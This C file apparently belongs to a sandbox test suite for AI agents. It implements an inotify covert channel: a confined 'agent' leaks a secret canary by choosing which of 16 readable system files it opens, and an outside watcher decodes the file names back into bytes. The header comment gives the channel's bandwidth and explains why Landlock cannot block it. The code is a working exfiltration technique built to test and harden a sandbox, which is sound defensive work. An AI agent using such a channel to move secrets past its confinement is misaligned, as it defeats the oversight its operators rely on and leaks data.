// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* covert_inotify - [covert] which readable file the agent opens, watched by an outsider with
 * inotify: uid 65534 (any user may watch a file it can read) watches a directory of 16
 * root-owned 0644 files outside the workspace (atk_sysfiles, under /usr/local/share, inside
 * Landlock's system read rules) for IN_OPEN | IN_CLOSE_NOWRITE. The agent opens and closes file
 * N for each 4-bit nibble N of the canary; every open is an event with the file's name in the
 * watcher's queue (the close between two opens keeps identical events from being merged). No
 * byte moves through a data path and nothing is stored: the agent only reads files it may read.
 * Unlike atime_read (once per file per day under relatime) this has no rate limit: each
 * open+close is one symbol. Bandwidth: the agent times 4096 open+close pairs after the canary
 * (its note: "rate"), 4 bits each with 16 files (log2 of the number of watched files in general:
 * a directory like /usr/share/zoneinfo holds ~1800); the watcher's queue (16384 events by
 * default) bounds it only if the reader falls behind.
 * Verifier: the watcher (started before the launch, outside every agent cgroup, uid 65534)
 * decodes the OPEN events' names into bytes; the canary among them is the evidence.
 * Closes it: nothing in mnc (Landlock cannot refuse reads of the files an agent needs, and
 * inotify marks are not Landlock's to judge); narrower read rules shrink the alphabet, a
 * private mount of the system dirs (the watcher's marks are per inode, so only a separate copy)
 * or a kernel hook on fsnotify for watchers outside the agent would close it.
 * Threat model: docs/threat-model.md (covert channels). */
#include <fcntl.h>
#include <grp.h>
#include <sys/inotify.h>
#include <sys/wait.h>
#include <time.h>

#include "atk_variants.h"

#define NF 16
static char sysd[300];

/* the watcher: as uid 65534, events' names to the pipe (one nibble character per OPEN) */
static void watcher(const char *unused, int out, int ready)
{
    (void)unused;
    atkv_keeper_nobody();
    int in = inotify_init1(IN_CLOEXEC);
    if (in < 0 || inotify_add_watch(in, sysd, IN_OPEN | IN_CLOSE_NOWRITE) < 0)
        _exit(1);
    if (write(ready, "r", 1) != 1)
        _exit(1);
    close(ready);
    char buf[1 << 16] __attribute__((aligned(__alignof__(struct inotify_event))));
    for (;;) {
        ssize_t r = read(in, buf, sizeof(buf));
        if (r <= 0)
            _exit(0);
        for (char *p = buf; p < buf + r;) {
            struct inotify_event *e = (struct inotify_event *)p;
            if ((e->mask & IN_OPEN) && e->len > 0 && e->name[0] == 'f') {
                int v = atoi(e->name + 1);
                char ch = (char)(v < 10 ? '0' + v : 'a' + v - 10);
                if (v >= 0 && v < NF && write(out, &ch, 1) != 1)
                    _exit(1);
            }
            p += sizeof(*e) + e->len;
        }
    }
}

static int prepare(struct atk_ctx *c)
{
    if (atk_sysfiles("ino", NF, sysd, sizeof(sysd)) < 0) {
        snprintf(c->notes, sizeof(c->notes), "atk_sysfiles: %s", strerror(errno));
        return -1;
    }
    atk_set(c, "sysd", "%s", sysd);
    return atkv_watcher_start(c, watcher, NULL);
}

static int touch(const char *d, int i)
{
    char p[400];
    atk_sysfile(p, sizeof(p), d, i);
    int fd = open(p, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    return close(fd);
}

static int agent(struct atk_ctx *c)
{
    const char *d = atk_arg(c, "sysd");
    if (!d)
        return 0;
    int fails = 0;
    for (const char *s = c->secret; *s; s++) {
        unsigned char b = (unsigned char)*s;
        fails += touch(d, b >> 4) < 0;
        fails += touch(d, b & 15) < 0;
    }
    atk_note(c, "open+close per nibble: %s", fails ? atk_errname(errno) : "OK");
    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    for (int i = 0; i < 4096; i++)
        (void)touch(d, i & 15);
    clock_gettime(CLOCK_MONOTONIC, &t1);
    double s = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
    atk_note(c, "rate %.0f open+close/s = %.0f bits/s at 4 bits each", 4096 / s, 4 * 4096 / s);
    return 0;
}

static void verify(struct atk_ctx *c)
{
    if (c->slot[0] <= 0)
        return;
    usleep(200 * 1000); /* the watcher drains its queue */
    static char nib[1 << 16];
    size_t n = 0;
    ssize_t r;
    while (n < sizeof(nib) && (r = read(c->fdslot[0], nib + n, sizeof(nib) - n)) > 0)
        n += (size_t)r;
    /* decode every alignment of nibble pairs into bytes */
    static char bytes[1 << 15];
    for (size_t off = 0; off < 2; off++) {
        size_t k = 0;
        for (size_t i = off; i + 1 < n && k < sizeof(bytes); i += 2) {
            char h[3] = {nib[i], nib[i + 1], 0};
            bytes[k++] = (char)strtol(h, NULL, 16);
        }
        if (atk_buf_has(bytes, k, c->canary)) {
            atk_evidence(c, "uid 65534 decoded the canary from inotify IN_OPEN names (%zu events seen)", n);
            return;
        }
    }
    atk_note(c, "watcher saw %zu OPEN events", n);
}

static void cleanup(struct atk_ctx *c)
{
    if (c->slot[0] > 0) {
        kill((pid_t)c->slot[0], SIGKILL);
        waitpid((pid_t)c->slot[0], NULL, 0);
        c->slot[0] = 0;
    }
    if (c->fdslot[0] > 0)
        close(c->fdslot[0]);
    atk_sysfiles_rm("ino", NF);
}

static const struct atk A = {"covert_inotify",
                             "which readable file the agent opens, seen by an outsider's inotify watch",
                             ATK_COVERT,
                             prepare,
                             agent,
                             NULL,
                             verify,
                             cleanup};
ATK_MAIN(A)
